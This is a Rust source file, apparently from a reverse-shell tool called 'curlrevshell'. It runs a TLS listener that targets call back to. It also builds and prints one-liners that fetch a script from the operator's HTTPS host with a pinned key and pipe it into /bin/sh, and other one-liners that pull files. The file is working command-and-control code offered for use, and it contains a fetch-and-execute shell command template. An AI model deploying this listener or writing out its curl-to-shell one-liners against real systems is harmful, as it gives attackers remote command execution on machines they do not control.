//! Server orchestrator: wires the TLS listener, the handler set, and the
//! broker together and runs until shutdown.

use std::{net::SocketAddr, path::PathBuf, sync::Arc};

use axum::Router;
use hyper_util::{
    rt::{TokioExecutor, TokioIo},
    server::conn::auto,
    service::TowerToHyperService,
};
use tokio::{net::TcpStream, sync::mpsc};
use tokio_rustls::TlsAcceptor;
use tokio_util::{sync::CancellationToken, task::TaskTracker};

use crs_types::{Color, OutLine, SessionEvent};

use crate::{
    addr::listen_addresses,
    broker::Broker,
    events::EVENT_BUFFER,
    http::{self, ConnMeta, HandlerState},
    ServerError, ServerResult,
};

/// Subject we use for the generated TLS certificate.
const CERT_SUBJECT: &str = "curlrevshell";

/// Start of the curl command used to connect to us.
const CURL_FORMAT: &str = "curl -sk --pinnedpubkey 'sha256//";

/// Configuration for [`Server::new`].
#[derive(Clone, Default)]
pub struct ServerConfig {
    /// Listen address; a zero port asks the OS for one.
    pub addr: String,
    /// Optional directory (or single file) to serve for unknown paths.
    pub static_dir: Option<PathBuf>,
    /// Optional callback-template file, re-read per request.
    pub template_file: Option<PathBuf>,
    /// Optional certificate cache file.
    pub cert_file: Option<PathBuf>,
    /// Additional callback addresses or domains for one-liner printing.
    pub callback_addrs: Vec<String>,
    /// Include IPv6 addresses in help lines.
    pub ipv6_help: bool,
    /// Close the listener once the first shell connects.
    pub one_shell: bool,
}

/// Serves targets over HTTPS.
pub struct Server {
    listener: tls_core::Listener,
    state: Arc<HandlerState>,
    output: mpsc::Sender<OutLine>,
    broker: Arc<Broker>,
    cfg: ServerConfig,
}

impl Server {
    /// Binds the listener and prepares the handler set. Call [`Server::run`]
    /// to start serving.
    pub async fn new(
        cfg: ServerConfig,
        broker: Arc<Broker>,
        output: mpsc::Sender<OutLine>,
    ) -> ServerResult<Self> {
        let listener = tls_core::Listener::bind(
            &cfg.addr,
            CERT_SUBJECT,
            tls_core::DEFAULT_LIFESPAN,
            cfg.cert_file.as_deref(),
            &[],
            &[],
        )
        .await?;

        let state = Arc::new(HandlerState {
            broker: broker.clone(),
            output: output.clone(),
            fingerprint: listener.fingerprint().to_string(),
            listen_port: listener.local_addr()?.port(),
            template_file: cfg.template_file.clone(),
            static_dir: cfg.static_dir.clone(),
        });

        Ok(Self {
            listener,
            state,
            output,
            broker,
            cfg,
        })
    }

    /// The listener's public-key fingerprint.
    pub fn fingerprint(&self) -> &str {
        self.listener.fingerprint()
    }

    /// The address we're actually listening on.
    pub fn local_addr(&self) -> ServerResult<SocketAddr> {
        Ok(self.listener.local_addr()?)
    }

    /// Serves HTTPS until `ctx` is cancelled or the listener fails.
    ///
    /// In one-shell mode the listener is closed on the first `Connected`
    /// event and [`ServerError::OneShellClosed`] is returned once that shell
    /// is gone; callers should treat the sentinel as a normal exit.
    pub async fn run(self, ctx: CancellationToken) -> ServerResult<()> {
        let Self {
            listener,
            state,
            output,
            broker,
            cfg,
        } = self;

        let (ev_tx, mut ev_rx) = mpsc::channel(EVENT_BUFFER);
        broker.add_event_listener(ev_tx.clone()).await;

        let local = listener.local_addr()?;
        let fingerprint = state.fingerprint.clone();
        send(&output, Color::None, format!("Listening on {local}")).await;

        // Work out our listen addresses, for operator help.
        let addrs = match listen_addresses(local, &cfg.callback_addrs, cfg.ipv6_help) {
            Ok(addrs) => addrs,
            Err(err) => {
                send(
                    &output,
                    Color::Red,
                    format!("Error determining callback address: {err}"),
                )
                .await;
                Vec::new()
            }
        };

        if let Some(dir) = &cfg.static_dir {
            if !addrs.is_empty() {
                emit_file_help(&output, &fingerprint, &addrs, dir).await;
            }
        }
        if !addrs.is_empty() {
            emit_shell_help(&output, &fingerprint, &addrs).await;
        }

        let acceptor = listener.acceptor();
        let router = http::router(state.clone());
        let tracker = TaskTracker::new();
        let conn_root = ctx.child_token();
        let mut listener = Some(listener);

        let result = loop {
            tokio::select! {
                _ = ctx.cancelled() => break Ok(()),

                ev = ev_rx.recv() => match ev {
                    Some(SessionEvent::Connected) => {
                        if cfg.one_shell && listener.is_some() {
                            tracing::info!("One-shell mode: closing listener");
                            listener = None;
                        }
                    }
                    Some(SessionEvent::Disconnected) => {
                        if cfg.one_shell {
                            break Err(ServerError::OneShellClosed);
                        }
                        // Give the operator the one-liners again for the
                        // next callback.
                        if !addrs.is_empty() {
                            emit_shell_help(&output, &fingerprint, &addrs).await;
                        }
                    }
                    None => break Ok(()),
                },

                conn = accept_next(&listener) => match conn {
                    Ok((tcp, peer)) => {
                        let acceptor = acceptor.clone();
                        let router = router.clone();
                        let token = conn_root.child_token();
                        tracker.spawn(handle_connection(
                            tcp, peer, acceptor, router, token,
                        ));
                    }
                    Err(err) => break Err(err.into()),
                },
            }
        };

        broker.remove_event_listener(&ev_tx).await;
        conn_root.cancel();
        tracker.close();
        tracker.wait().await;

        result
    }
}

/// Accept from the listener, or park forever once it has been closed.
async fn accept_next(
    listener: &Option<tls_core::Listener>,
) -> std::io::Result<(TcpStream, SocketAddr)> {
    match listener {
        Some(l) => l.accept().await,
        None => std::future::pending().await,
    }
}

/// Handshake and serve one connection, cancelling its handlers when the
/// connection or the server goes away.
async fn handle_connection(
    tcp: TcpStream,
    peer: SocketAddr,
    acceptor: TlsAcceptor,
    router: Router,
    token: CancellationToken,
) {
    let tls = match acceptor.accept(tcp).await {
        Ok(tls) => tls,
        Err(err) => {
            tracing::debug!(remote_addr = %peer, error = %err, "TLS handshake failed");
            return;
        }
    };
    let sni = tls.get_ref().1.server_name().map(str::to_string);

    let svc = http::conn_service(
        router,
        ConnMeta {
            peer,
            sni,
            token: token.clone(),
        },
    );
    let builder = auto::Builder::new(TokioExecutor::new());
    let conn = builder.serve_connection_with_upgrades(TokioIo::new(tls), TowerToHyperService::new(svc));
    tokio::pin!(conn);

    let mut shutting_down = false;
    loop {
        tokio::select! {
            res = conn.as_mut() => {
                if let Err(err) = res {
                    tracing::debug!(remote_addr = %peer, error = %err, "Connection closed with error");
                }
                break;
            }
            _ = token.cancelled(), if !shutting_down => {
                shutting_down = true;
                conn.as_mut().graceful_shutdown();
            }
        }
    }

    // Connection is gone; stop any proxies it spawned.
    token.cancel();
}

async fn send(output: &mpsc::Sender<OutLine>, color: Color, line: String) {
    let _ = output.send(OutLine::line(color, line)).await;
}

/// Tell the operator where to get static files.
async fn emit_file_help(
    output: &mpsc::Sender<OutLine>,
    fingerprint: &str,
    addrs: &[String],
    dir: &std::path::Path,
) {
    send(
        output,
        Color::Cyan,
        format!("To get files from {}:", dir.display()),
    )
    .await;
    send(output, Color::Cyan, String::new()).await;
    for addr in addrs {
        send(
            output,
            Color::Cyan,
            format!("{CURL_FORMAT}{fingerprint}' 'https://{addr}'"),
        )
        .await;
    }
    send(output, Color::Cyan, String::new()).await;
}

/// Tell the operator how to get a shell.
async fn emit_shell_help(output: &mpsc::Sender<OutLine>, fingerprint: &str, addrs: &[String]) {
    send(output, Color::Cyan, "To get a shell:".to_string()).await;
    send(output, Color::Cyan, String::new()).await;
    for addr in addrs {
        send(
            output,
            Color::Cyan,
            format!("{CURL_FORMAT}{fingerprint}' 'https://{addr}/c' | /bin/sh"),
        )
        .await;
    }
    send(output, Color::Cyan, String::new()).await;
}
